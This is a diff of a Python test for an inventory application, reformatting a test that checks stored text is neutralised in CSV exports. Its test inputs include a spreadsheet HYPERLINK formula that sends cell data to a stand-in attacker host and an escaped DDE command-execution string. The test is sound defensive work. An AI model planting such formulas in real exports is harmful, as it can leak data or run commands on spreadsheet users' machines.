@@ -14,8 +14,14 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"invoice")'
 
 def test_text_a_clerk_stores_is_neutralised_in_csv(boss: Any, as_principal: Any) -> None:
     stocked(boss, "A-1", "WH1", 10)
-    boss.put_json("/locations/WH1/@@acl", {"entries": [
-        {"action": "Allow", "principal": "group:receivers", "permission": "stock.receive"}]})
+    boss.put_json(
+        "/locations/WH1/@@acl",
+        {
+            "entries": [
+                {"action": "Allow", "principal": "group:receivers", "permission": "stock.receive"}
+            ]
+        },
+    )
     clerk = as_principal("user:rita", "group:receivers")
     move(clerk, "WH1", "A-1", "receipt", 5, reference=HYPERLINK)
     move(boss, "WH1", "A-1", "adjustment", -5, reason="@damaged", reference="+44 1234")
@@ -29,8 +35,13 @@ def test_text_a_clerk_stores_is_neutralised_in_csv(boss: Any, as_principal: Any)
     # a negative quantity is a number, and stays one
     assert (adjustment["quantity"], adjustment["balance"]) == ("-5", "10")
     assert receipt["name"] == "'-cmd|' /C calc'!A0"
-    on_hand = list(csv.DictReader(io.StringIO(
-        boss.get("/reports/stock-on-hand?format=csv").body.decode("utf-8"), newline="")))
+    on_hand = list(
+        csv.DictReader(
+            io.StringIO(
+                boss.get("/reports/stock-on-hand?format=csv").body.decode("utf-8"), newline=""
+            )
+        )
+    )
     assert on_hand[0]["name"] == "'-cmd|' /C calc'!A0" and on_hand[0]["on_hand"] == "10"
     # JSON carries the data as it is
     json_rows = boss.get("/reports/movements").json["rows"]
